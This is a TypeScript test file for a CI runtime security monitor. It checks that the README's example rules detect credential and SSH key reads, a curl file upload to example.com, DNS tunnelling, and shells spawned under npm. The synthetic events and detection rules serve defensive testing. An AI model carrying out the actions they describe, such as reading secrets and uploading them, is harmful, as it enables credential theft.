import { describe, expect, test } from "vitest";
import { Evaluation } from "../../src/evaluate/evaluation.ts";
import { fieldTable, keyTable } from "../../src/generate/tables.ts";
import { isEventKind } from "../../src/kinds/index.ts";
import { ruleExplanation } from "../../src/report/explanation.ts";
import { RULE_WARNING_KINDS } from "../../src/rules/fault.ts";
import { loadRules } from "../../src/rules/load.ts";
import { EVENT_RULE, MODIFIER, RULE_SET } from "../../src/rules/rule-file.ts";
import type { Settings } from "../../src/rules/settings.ts";
import { eventOf, type PlainEvent } from "./events.ts";
import { examples, RULES_README as readme } from "./examples.ts";
import { faultTextsOf, holds, load } from "./load-text.ts";

test.each([
  ["fields", fieldTable()],
  ["rule-keys", keyTable(EVENT_RULE)],
  ["set-keys", keyTable(RULE_SET)],
  ["modifier-keys", keyTable(MODIFIER)],
])("the table of %s is what the loader goes by", (marker, expected) => {
  const [, table] = new RegExp(`<!-- ${marker} -->\\n(.*)<!-- /${marker} -->`, "s").exec(readme) ?? [];
  expect(table).toBe(expected);
});

test("no example is of a language that is not tried here", () => {
  expect(readme.match(/^```./gm)).toHaveLength(examples("yaml").length + examples("cel").length);
});

test("the mistake that it shows is shown as it says", () => {
  const [, shown] = /^```\n(rules\.yaml:.*?)\n```$/ms.exec(readme) ?? [];
  const text = examples("yaml")[0]?.text.replace("is_read &&", "is_reed &&") ?? "";
  expect(faultTextsOf(text)).toEqual([shown]);
});

test("the explanation that it shows is what is shown", () => {
  const [, shown] = /^```\n\$ runwarden explain [^\n]*\n(.*?)\n```$/ms.exec(readme) ?? [];
  const [rule] = load(examples("yaml")[0]?.text ?? "").rules;
  if (rule?.type !== "event") throw new Error("the first example is no event rule");
  const payload = { path: "/home/runner/.npmrc", is_write: true };
  const event = eventOf({ event_type: "file_open", process: { exec_path: "/bin/sh" }, payload }, 41);
  expect(`${ruleExplanation(rule, event, 41).join("\n")}`).toBe(shown);
});

test("every kind of warning is explained", () => {
  const explained = [...readme.matchAll(/^\| `([a-z_]+)` +\| [A-Z`][^|]*\|$/gm)].map(([, kind]) => kind);
  expect(explained).toEqual([...RULE_WARNING_KINDS].sort());
});

describe("the rule files that it shows", () => {
  const open = (path: string, exec_path = "/bin/cat"): PlainEvent => ({
    event_type: "file_open",
    process: { exec_path },
    payload: { path, is_read: true },
  });
  const upload: PlainEvent = {
    event_type: "process_exec",
    process: { exec_path: "/usr/bin/curl", argv: ["curl", "--upload-file", "x", "https://example.com"] },
  };

  const HEALTH = "https://internal.example.com/health";
  const curl = (url: string): PlainEvent => ({
    event_type: "process_exec",
    process: { exec_path: "/usr/bin/curl", argv: ["curl", url] },
  });
  const lookUp = (domain: string): PlainEvent => ({ event_type: "domain", payload: { domain } });
  const connect = (remote_port: number): PlainEvent => ({
    event_type: "network_connect",
    payload: { remote_port },
  });

  test.each<[number, PlainEvent[], string[]]>([
    [
      0,
      [open("/root/.npmrc"), open("/root/.npmrc", "/usr/bin/npm"), open("/root/.pip")],
      ["credential_read 1"],
    ],
    [1, [open("/root/.ssh/id_ed25519"), upload], ["key_read 1", "upload 1", "key_read_and_upload 1"]],
    [1, [upload], ["upload 1"]],
    [
      2,
      [
        open("/root/.npmrc"),
        open("/root/.ssh/id_rsa"),
        open("/root/.npmrc", "/x"),
        open("/root/.pypirc", "/x"),
      ],
      ["secret_read 3", "key_read 1", "sweep 1"],
    ],
    [2, Array.from({ length: 50 }, (_, n) => lookUp(`${n}.example.com`)), ["long_name 50", "tunnel 1"]],
    [3, [curl("https://example.com"), curl(HEALTH), connect(80)], ["tool_exec 1", "plain_http 1"]],
  ])("file %i does what it says", (index, events, expected) => {
    const evaluation = new Evaluation(load(examples("yaml")[index]?.text ?? "").rules);
    for (const event of events) evaluation.add(eventOf(event));
    const { rules } = evaluation.outcome();
    expect(rules.map(({ rule, totalCount }) => `${rule.ruleId} ${totalCount}`)).toEqual(expected);
  });

  test("are all tried", () => {
    expect(examples("yaml")).toHaveLength(5);
  });

  test("with modifiers that only report what would fail the job", () => {
    const { rules, warnings } = load(examples("yaml")[3]?.text ?? "");
    expect(warnings).toEqual([]);
    expect(rules.map(({ ruleId, action, modifiers }) => [ruleId, action, modifiers])).toEqual([
      ["tool_exec", "collect", ["acme-health-check", "acme-first-week"]],
      ["plain_http", "collect", ["acme-first-week"]],
    ]);
  });

  test.each<[Settings, number]>([
    [{ provider_host: "github.com", project_path: "acme/web" }, 1],
    [{ provider_host: "github.com", project_path: "acme/deploy-docs" }, 1],
    [{ provider_host: "github.com", project_path: "acme/deploy" }, 0],
    [{ provider_host: "github.com", project_path: "acme/sandbox-1" }, 0],
    [{ provider_host: "ghe.example.com", project_path: "acme/web" }, 0],
    [{}, 1],
  ])("with a target, at %o", (settings, expected) => {
    const text = examples("yaml")[4]?.text ?? "";
    expect(loadRules([{ name: "rules.yaml", text, origin: "project" }], settings).rules).toHaveLength(
      expected,
    );
  });
});

describe("the conditions that it shows", () => {
  const shellBelowNpm = [
    { exec_path: "/bin/sh" },
    { exec_path: "/usr/bin/node" },
    { exec_path: "/usr/bin/npm" },
  ];
  const connect = (remote_ip: string): PlainEvent => ({
    event_type: "network_connect",
    payload: { remote_ip, protocol: "tcp" },
  });
  const named = (remote_domains: string[]): PlainEvent => ({
    event_type: "network_connect",
    payload: { remote_ip: "203.0.113.1", remote_port: 443, remote_domains },
  });
  const move = (from_path: string): PlainEvent => ({
    event_type: "file_move",
    payload: { from_path, to_path: "/usr/bin/curl" },
  });
  const curl = (option: string): PlainEvent => ({
    event_type: "process_exec",
    process: { exec_path: "/usr/bin/curl", argv: ["curl", option, "a=@b"] },
  });
  const curlOf = (of: string): PlainEvent => ({
    event_type: "process_exec",
    process: { exec_path: "/usr/bin/curl", package: of },
  });
  const connectOf = (action: string): PlainEvent => ({
    event_type: "network_connect",
    process: { exec_path: "/usr/bin/node", action },
    payload: { remote_port: 443 },
  });
  const belowNpm = (...args: string[]) =>
    exec("/usr/bin/python3", [{ exec_path: "/usr/bin/npm", argv: ["npm", ...args] }]);
  const exec = (exec_path: string, ancestors: { exec_path: string; argv?: string[] }[]): PlainEvent => ({
    event_type: "process_exec",
    process: { exec_path, ancestors },
  });

  test.each<[number, PlainEvent, PlainEvent]>([
    [0, curl("-F"), curl("-f")],
    [1, connect("203.0.113.1"), connect("10.0.0.1")],
    [2, move("/tmp/curl"), move("/opt/curl")],
    [3, exec("/bin/bash", shellBelowNpm), exec("/bin/bash", [])],
    [4, exec("/usr/bin/curl", shellBelowNpm), exec("/usr/bin/curl", shellBelowNpm.slice(1))],
    [5, belowNpm("ci", "--prefix", "test"), belowNpm("test", "ci")],
    [6, curlOf("evil"), curlOf("esbuild")],
    [7, connectOf("acme/deploy@v1"), connectOf("actions/cache@v4")],
    [8, named([]), named(["registry.npmjs.org", "cdn.example.net"])],
  ])("condition %i does what it says", (index, yes, no) => {
    const example = examples("cel")[index];
    expect([example && holds(example.text.trim(), yes), example && holds(example.text.trim(), no)]).toEqual([
      true,
      false,
    ]);
  });

  test("are all tried, and name their kind of event", () => {
    expect(examples("cel")).toHaveLength(11);
    expect(examples("cel").every(({ about }) => isEventKind(about))).toBe(true);
  });
});

test("each row of the table of operators is a condition", () => {
  const open: PlainEvent = { event_type: "file_open", payload: { path: "/a", is_read: true } };
  const connect: PlainEvent = { event_type: "network_connect", payload: { remote_ip: "10.0.0.1" } };
  expect(readme).toContain('| `is_read ? path == "/a" : path == "/b"` ');
  expect(holds('is_read ? path == "/a" : path == "/b"', open)).toBe(true);
  expect(readme).toContain('| `inIpRange(remote_ip, "10.0.0.0/8")` ');
  expect(holds('inIpRange(remote_ip, "10.0.0.0/8")', connect)).toBe(true);
  expect(readme).toContain('| `remote_port in [80, 443]`, `"-c" in process.argv` ');
  expect(holds('remote_port in [80, 443] || "-c" in process.argv', connect)).toBe(false);
});
